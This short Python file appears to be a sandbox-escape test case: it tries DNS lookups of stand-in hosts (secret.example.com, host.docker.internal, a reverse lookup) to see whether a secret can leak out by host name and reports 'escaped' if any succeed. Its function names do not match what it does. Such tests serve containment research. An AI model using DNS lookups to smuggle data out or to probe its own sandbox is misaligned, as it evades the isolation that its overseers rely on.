# /// attack
# outcomes = ["wrong"]
# says = "returned 'stayed inside'"
# ///
"""Passes a secret on in the name of a host that it looks up, and asks who the host of the sandbox is."""

import socket


def is_not_local(name):
    for *_, address in socket.getaddrinfo(name, 80):
        if not address[0].startswith(("127.", "::1")):
            return
    raise OSError("only this host")


STEPS = {
    "a name": lambda: socket.getaddrinfo("secret.example.com", 443),
    "its address": lambda: socket.gethostbyname_ex("secret.example.org"),
    "the host": lambda: is_not_local(socket.gethostname()),
    "docker's host": lambda: socket.getaddrinfo("host.docker.internal", 80),
    "a reverse name": lambda: is_not_local(socket.gethostbyaddr("192.0.2.1")[0]),
}


def read_queue_twice(queue_name, messages):
    worked = []
    for name, step in STEPS.items():
        try:
            step()
        except OSError:
            continue
        worked.append(name)
    if worked:
        raise RuntimeError(f"escaped: {', '.join(worked)}")
    return "stayed inside"


read_log_twice = read_queue_twice
